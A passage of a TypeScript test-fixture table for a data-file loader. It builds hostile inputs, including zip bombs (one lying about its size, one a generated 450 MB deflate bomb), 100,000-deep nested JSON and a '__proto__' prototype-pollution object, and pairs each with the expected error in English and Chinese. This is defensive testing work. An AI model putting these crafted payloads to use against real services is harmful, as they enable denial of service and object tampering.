    wrong: 'a sheet entry declaring 1 kB that inflates to 64 MB (lies about its size)',
    nondeterministic: true,
    build: () =>
      repacked((name) => {
        if (!name.startsWith('xl/worksheets/sheet1')) return null;
        return deflated(name, bombBody(64 * 2 ** 20), 1024);
      }),
    error: {
      code: 'bad-xlsx',
      en: 'zip-bomb-lying.xlsx: This workbook is damaged or crafted: "xl/worksheets/sheet1.xml" claims an unpacked size its compressed data cannot have.',
      zh: 'zip-bomb-lying.xlsx：这个工作簿已损坏或是伪造的：“xl/worksheets/sheet1.xml”声明的解压大小与它的压缩数据不符。',
    },
  },
  {
    file: 'zip-bomb-deflate.xlsx',
    wrong: 'a zip bomb: one honest 450 MB sheet deflated ~400:1 into about 1 MB (generated at test time)',
    large: {
      write: async (path) => {
        const { writeFile } = await import('node:fs/promises');
        const { crc32, createDeflateRaw } = await import('node:zlib');
        // Streamed, one 1 MiB block of rows at a time: the test never holds the 450 MB it describes.
        const block = bombBody(2 ** 20);
        const total = 450 * 2 ** 20;
        const deflate = createDeflateRaw({ level: 9 });
        const out: Buffer[] = [];
        deflate.on('data', (b: Buffer) => out.push(b));
        const ended = new Promise((resolve) => deflate.on('end', resolve));
        let crc = 0;
        for (let o = 0; o < total; o += block.length) {
          crc = crc32(block, crc);
          if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
        }
        deflate.end();
        await ended;
        const sheet = { name: 'xl/worksheets/sheet1.xml', data: new Uint8Array(Buffer.concat(out)), method: 8 as const, crc, declaredUnpacked: total };
        const parts = unzipSync(await workbook());
        await writeFile(path, craftZip(Object.entries(parts).map(([name, data]) => (name === sheet.name ? sheet : deflated(name, data)))));
      },
    },
    error: {
      code: 'too-large',
      en: 'zip-bomb-deflate.xlsx: This workbook unpacks to 450 MB ("xl/worksheets/sheet1.xml"), more than the 400 MB a browser can handle; it may be a "zip bomb". Export it as CSV, or split it into smaller workbooks.',
      zh: 'zip-bomb-deflate.xlsx：这个工作簿解压后有 450 MB（“xl/worksheets/sheet1.xml”），超过浏览器能处理的 400 MB；它可能是“压缩炸弹”。请导出为 CSV，或拆分成较小的工作簿。',
    },
  },

  // JSON and Parquet.
  {
    file: 'scalar.json',
    wrong: 'a JSON document holding one number',
    build: () => utf8('42\n'),
    error: { code: 'bad-json', en: 'scalar.json: The JSON holds a single value, not a table.', zh: 'scalar.json：这个 JSON 只有一个值，不是表格。' },
  },
  {
    file: 'broken-line.ndjson',
    wrong: 'NDJSON whose third line is cut off',
    build: () => utf8('{"客户编号":"K001","销售额":100}\n{"客户编号":"K002","销售额":200}\n{"客户编号":"K003","销售\n{"客户编号":"K004","销售额":400}\n'),
    error: {
      code: 'bad-json',
      line: 3,
      en: 'broken-line.ndjson: Line 3 is not valid JSON: each line of NDJSON must hold one whole object.',
      zh: 'broken-line.ndjson：第 3 行不是有效的 JSON：NDJSON 的每一行都应是一个完整的对象。',
    },
  },
  {
    file: 'deep-nesting.json',
    wrong: '100,000 nested arrays',
    build: () => utf8('['.repeat(100_000) + ']'.repeat(100_000)),
    error: { code: 'bad-json', row: 2, en: 'deep-nesting.json: Item 1 is not an object; a JSON table is a list of objects.', zh: 'deep-nesting.json：第 1 项不是对象；JSON 表格应是一组对象。' },
  },
  {
    file: 'prototype-keys.json',
    wrong: 'objects with keys __proto__, constructor, toString, hasOwnProperty',
    build: () => utf8('[{"客户编号":"J1","__proto__":{"polluted":true},"constructor":"c","toString":"t","hasOwnProperty":1}]\n'),
    loads: { rows: 1, columns: ['客户编号', '__proto__', 'constructor', 'toString', 'hasOwnProperty'], notices: [] },
    session: { role: 'customers' },
  },
  {
    file: 'truncated.parquet',
    wrong: 'a Parquet file cut in half',
    build: () => {
      const b = parquetBytes([
        { name: '客户编号', data: Array.from({ length: 200 }, (_, i) => `P${i}`), type: 'STRING' },
        { name: '销售额', data: Array.from({ length: 200 }, (_, i) => i * 1.5), type: 'DOUBLE' },
      ]);
      return b.subarray(0, Math.floor(b.length / 2));
    },
    error: { code: 'bad-parquet', en: 'truncated.parquet: Could not read this Parquet file (parquet file invalid (footer != PAR1)).', zh: 'truncated.parquet：无法读取这个 Parquet 文件（parquet file invalid (footer != PAR1)）。' },
  },
  {
    file: 'not-parquet.parquet',
    wrong: 'CSV text named .parquet',
    build: () => text([LINES_HEADER, ...orderLines(2)]),
    error: { code: 'bad-parquet', en: 'not-parquet.parquet: This .parquet file does not start with the Parquet signature "PAR1".', zh: 'not-parquet.parquet：这个 .parquet 文件不是以 Parquet 标志“PAR1”开头的。' },
  },

  // Dates no calendar has.
  {
    file: 'impossible-dates.csv',
    wrong: 'order dates 0000-00-00, 2025-02-30 and 2025-13-01 among valid ones',
    build: () => {
      const rows = orderLines(8);
      rows[1]![3] = '0000-00-00';
      rows[4]![3] = '2025-02-30';
      rows[7]![3] = '2025-13-01';
      return text([LINES_HEADER, ...rows]);
    },
    loads: {
      rows: 17,
      columns: ['客户编号', '客户名称', '订单号', '订单日期', '订单日期__raw', '销售额', '利润'],
      notices: ['cellsNotParsed'],
      noticeText: ['Column "订单日期": 3 cell(s) are not dates (row 3 "0000-00-00", row 6 "2025-02-30", row 9 "2025-13-01")'],
    },
    session: { role: 'lines', grade: { with: 'alone', customers: 8 } },
  },
];
